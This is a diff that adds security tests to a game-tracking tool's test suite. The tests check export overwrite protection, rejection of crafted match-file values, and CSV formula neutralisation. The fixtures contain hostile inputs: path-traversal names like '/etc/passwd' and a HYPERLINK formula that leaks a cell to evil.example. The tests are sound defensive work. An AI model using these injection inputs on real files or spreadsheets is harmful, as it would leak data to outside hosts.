@@ -5,6 +5,7 @@ cells never run as spreadsheet formulas."""
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import re
@@ -20,8 +21,10 @@ from typing import Any
 import cv2
 import pytest
 
+from rules.errors import InputError
 from rules.session import Event
 from vision.game import Game
+from vision.match.export import csv_cell
 from vision.match.reader import Match
 from vision.match.replay import Replay
 from vision.match.writer import MatchWriter
@@ -293,3 +296,268 @@ def test_run_record_on_a_disk_that_fills_up_goes_on_serving_and_exits_0(tmp_path
     assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
     assert conn.execute("SELECT count(*) FROM frames").fetchone()[0] > 0
     conn.close()
+
+
+# -- a small match file to attack ---------------------------------------------------------
+
+
+def small_match(
+    path: Path, *, model: str = "varg", message: str = "moved", video: bool = False
+) -> Path:
+    """Ten frames of two models, one event, a snapshot and a journal input; ``model`` and
+    ``message`` as given (a formula, say). With ``video``: a two-picture video beside it."""
+    setup = sample_setup()
+    session = setup.session()
+    with MatchWriter(path, setup, video=video, min_free_bytes=0, app_version="9.9.9") as w:
+        for k in range(10):
+            image = cv2.imread(str(REPO / "samples" / "necromunda" / "markers.pdf"))
+            w.frame(
+                Frame(image if image is not None else _grey(), k / 10, k),
+                {
+                    model: (-1.5, 2.0 + k, 90.0, 0.01, "settled"),
+                    "kyria": (10.0, 10.0, -45.0, 0.01, "moving"),
+                },
+                write_image=video and k < 2,
+            )
+        w.input("set_side", {"side": "goliath"})
+        w.event(Event(0.5, 5, "violation", message, "movement", model, "+kyria", -1.5, 4.0, 0.1, 0))
+        w.snapshot(0.5, 5, session.snapshot())
+    return path
+
+
+def _grey() -> Any:
+    import numpy as np
+
+    return np.full((120, 160, 3), 128, np.uint8)
+
+
+def cli(*args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [*tablesight_exe(), *args], capture_output=True, text=True, timeout=120, cwd=REPO
+    )
+
+
+def one_line(result: subprocess.CompletedProcess[str]) -> str:
+    """The command's single ``tablesight: ...`` line on stderr (exit status 2)."""
+    assert result.returncode == 2, (result.returncode, result.stderr)
+    assert "Traceback" not in result.stderr
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("tablesight: "), result.stderr
+    return lines[0]
+
+
+# -- 2. export never destroys data --------------------------------------------------------
+
+
+def test_export_never_writes_over_the_match_by_any_name(tmp_path: Path) -> None:
+    match = small_match(tmp_path / "m.db")
+    before = match.read_bytes()
+    (tmp_path / "link.json").symlink_to("m.db")
+    os.link(match, tmp_path / "hard.json")
+    for target in ("m.db", "link.json", "hard.json"):
+        for force in ([], ["--force"]):
+            line = one_line(cli("export", str(match), "-o", str(tmp_path / target), *force))
+            assert "(or a link to it); refusing to write over it" in line, line
+    line = one_line(cli("export", str(match), "-o", str(tmp_path / "m.db-wal")))
+    assert "is the match's own file m.db-wal" in line, line
+    assert match.read_bytes() == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["hard.json", "link.json", "m.db"]
+
+
+def test_export_replaces_an_existing_output_only_with_force_and_never_through_a_link(
+    tmp_path: Path,
+) -> None:
+    match = small_match(tmp_path / "m.db")
+    out = tmp_path / "out.json"
+    out.write_text("mine")
+    line = one_line(cli("export", str(match), "-o", str(out)))
+    assert line == f"tablesight: {out}: exists; add --force to replace it"
+    assert out.read_text() == "mine"
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    (tmp_path / "linked.json").symlink_to(victim)
+    one_line(cli("export", str(match), "-o", str(tmp_path / "linked.json")))
+    result = cli("export", str(match), "-o", str(tmp_path / "linked.json"), "--force")
+    assert result.returncode == 0, result.stderr
+    assert victim.read_text() == "keep me"  # the link was replaced, not written through
+    assert not (tmp_path / "linked.json").is_symlink()
+    assert json.loads((tmp_path / "linked.json").read_text())["format"] == "tablesight-match"
+    result = cli("export", str(match), "-o", str(out), "--force")
+    assert result.returncode == 0 and json.loads(out.read_text())["version"] == 1
+    # CSV: both files are checked before either is written
+    (tmp_path / "m-tracks.csv").write_text("mine")
+    one_line(cli("export", str(match), "--format=csv"))
+    assert not (tmp_path / "m-events.csv").exists()
+
+
+def test_export_into_a_folder_or_a_missing_folder_is_one_line(tmp_path: Path) -> None:
+    match = small_match(tmp_path / "m.db")
+    assert one_line(cli("export", str(match), "-o", str(tmp_path))) == (
+        f"tablesight: {tmp_path}: is a folder; -o names the file to write"
+    )
+    missing = tmp_path / "no" / "x.json"
+    assert one_line(cli("export", str(match), "-o", str(missing))) == (
+        f"tablesight: {missing}: no such folder {missing.parent}"
+    )
+
+
+def test_export_leaves_nothing_but_its_outputs_beside_the_match(tmp_path: Path) -> None:
+    match = small_match(tmp_path / "m.db")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.db"]
+    for fmt in ("json", "csv"):
+        result = cli("export", str(match), f"--format={fmt}")
+        assert result.returncode == 0, result.stderr
+    # no -wal, -shm or half-written temporary file
+    assert sorted(p.name for p in tmp_path.iterdir()) == [
+        "m-events.csv",
+        "m-tracks.csv",
+        "m.db",
+        "m.json",
+    ]
+
+
+# -- 3. a crafted match file is refused, never trusted ------------------------------------
+
+
+def set_meta(path: Path, key: str, value: str) -> None:
+    conn = sqlite3.connect(path)
+    conn.execute("INSERT OR REPLACE INTO meta (key, value) VALUES (?, ?)", (key, value))
+    conn.commit()
+    conn.close()
+
+
+def test_a_stored_video_name_never_deletes_a_file(tmp_path: Path) -> None:
+    match = small_match(tmp_path / "m.db")
+    set_meta(match, "video", json.dumps("victim.txt"))
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    frames = tmp_path / "frames"
+    frames.mkdir()
+    cv2.imwrite(str(frames / "0.png"), _grey())
+    table, roster, terrain, camera = (SAMPLE / n for n in SETUP_FILES)
+    result = cli(
+        "analyze",
+        str(frames),
+        "--game=necromunda",
+        f"--table={table}",
+        f"--roster={roster}",
+        f"--terrain={terrain}",
+        f"--camera={camera}",
+        "-o",
+        str(match),
+    )
+    assert result.returncode == 0, result.stderr
+    assert victim.read_text() == "keep me"
+    assert Match(match).meta["video"] is None  # the crafted match was replaced
+
+
+@pytest.mark.parametrize(
+    "name", ["victim.txt", "a/b.avi", "/etc/passwd", "../m.avi", ".avi", 123, ["m.avi"], {}]
+)
+def test_a_crafted_video_name_is_one_line_in_replay_and_export(
+    tmp_path: Path, name: object
+) -> None:
+    match = small_match(tmp_path / "m.db")
+    set_meta(match, "video", json.dumps(name))
+    expected = (
+        f"{match}: meta video: expected null or a file name beside it ending in .avi, "
+        f"got {json.dumps(name)}"
+    )
+    with pytest.raises(InputError) as caught:
+        Replay(match)
+    assert str(caught.value) == expected
+    assert one_line(cli("export", str(match))) == f"tablesight: {expected}"
+
+
+CRAFTED: list[tuple[str, str, str]] = [
+    ("meta game", "UPDATE meta SET value = '5' WHERE key = 'game'", "meta game: expected"),
+    ("meta fps", "UPDATE meta SET value = '\"fast\"' WHERE key = 'fps'", "meta fps: expected"),
+    ("meta fps 0", "UPDATE meta SET value = '0' WHERE key = 'fps'", "meta fps: expected"),
+    ("meta schema", "UPDATE meta SET value = '[1]' WHERE key = 'schema'", "meta schema:"),
+    ("meta not json", "UPDATE meta SET value = '{' WHERE key = 'table'", "meta table: not valid"),
+    ("meta roster", "UPDATE meta SET value = '\"x\"' WHERE key = 'roster'", "meta roster:"),
+    ("meta ruleset", "UPDATE meta SET value = '{}' WHERE key = 'ruleset'", "meta ruleset"),
+    ("meta table", "UPDATE meta SET value = '{\"a\": 1}' WHERE key = 'table'", "meta table"),
+    (
+        "meta camera",
+        "UPDATE meta SET value = '{\"image_size\": 3}' WHERE key = 'camera'",
+        "meta camera",
+    ),
+    (
+        "meta terrain",
+        "UPDATE meta SET value = '[{\"id\": 1}]' WHERE key = 'terrain'",
+        "meta terrain",
+    ),
+    ("frame t", "UPDATE frames SET t = 'soon' WHERE id = 3", "frames id 3: t: not valid"),
+    (
+        "frame number",
+        "UPDATE frames SET source_index = 2.5 WHERE id = 4",
+        "frames id 4: source_index",
+    ),
+    ("video frame", "UPDATE frames SET video_frame = -1 WHERE id = 1", "frames id 1: video_frame"),
+    ("pose", "UPDATE poses SET x_in = 'left' WHERE frame = 2", "poses frame 2: x_in"),
+    ("pose state", "UPDATE poses SET state = 'gone' WHERE frame = 2", "poses frame 2: state"),
+    ("event kind", "UPDATE events SET kind = 'boom'", "events id 0: kind: not valid"),
+    ("event rule", "UPDATE events SET rule = 'x'", "events id 0: rule"),
+    ("event number", "UPDATE events SET measured = 'far'", "events id 0: measured"),
+    ("event message", "UPDATE events SET message = 5", "events id 0: message"),
+    ("snapshot json", "UPDATE snapshots SET state = '[1]'", "snapshots id 1: state"),
+    ("snapshot shape", "UPDATE snapshots SET state = '{\"turn\": 1}'", "snapshots: the one at"),
+    (
+        "snapshot events",
+        "UPDATE snapshots SET state = json_set(state, '$.events', 'x')",
+        "snapshots: the one at",
+    ),
+    ("input kind", "UPDATE inputs SET kind = 'format_disk'", "inputs id 1: kind"),
+    ("input args", "UPDATE inputs SET args = '[]'", "inputs id 1: args"),
+    ("input values", "UPDATE inputs SET args = '{\"colour\": 1}'", "inputs"),
+]
+
+
+@pytest.mark.parametrize(("what", "sql", "says"), CRAFTED, ids=[c[0] for c in CRAFTED])
+def test_every_value_read_from_a_match_file_is_checked(
+    tmp_path: Path, what: str, sql: str, says: str
+) -> None:
+    match = small_match(tmp_path / "m.db")
+    conn = sqlite3.connect(match)
+    conn.execute(sql)
+    conn.commit()
+    conn.close()
+    with pytest.raises(InputError) as caught, Replay(match) as replay:
+        replay.seek(replay.end_t)
+    line = str(caught.value)
+    assert line.startswith(f"{match}: ") and says in line, line
+    assert "\n" not in line
+
+
+def test_a_crafted_match_is_one_line_from_replay_on_the_command_line(tmp_path: Path) -> None:
+    match = small_match(tmp_path / "m.db")
+    set_meta(match, "video", json.dumps("/etc/passwd"))
+    line = one_line(cli("replay", str(match), "--no-browser", "--port=0"))
+    assert line.startswith(f"tablesight: {match}: meta video: ")
+
+
+# -- 4. CSV cells are never formulas ------------------------------------------------------
+
+
+def test_csv_text_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    match = small_match(tmp_path / "m.db", model="@SUM(A1)", message=formula)
+    result = cli("export", str(match), "--format=csv")
+    assert result.returncode == 0, result.stderr
+    with (tmp_path / "m-events.csv").open(newline="") as f:
+        (event,) = list(csv.DictReader(f))
+    assert event["message"] == "'" + formula
+    assert event["model"] == "'@SUM(A1)"
+    assert event["other"] == "'+kyria"
+    assert event["measured"] == "-1.5"  # a number, negative, stays a number
+    assert event["limit"] == "4.0"
+    with (tmp_path / "m-tracks.csv").open(newline="") as f:
+        tracks = list(csv.DictReader(f))
+    mine = [r for r in tracks if r["model"] == "'@SUM(A1)"]
+    assert len(mine) == 10 and {r["x_in"] for r in mine} == {"-1.5"}
+    assert {r["heading_deg"] for r in tracks if r["model"] == "kyria"} == {"-45.0"}
+    for cell in ("-cmd", "+1", "=1", "@x", "\tx", "\rx"):
+        assert csv_cell(cell) == "'" + cell
+    for value in (-1.5, -2, 0.0, "a-b", "", None):
+        assert csv_cell(value) == value
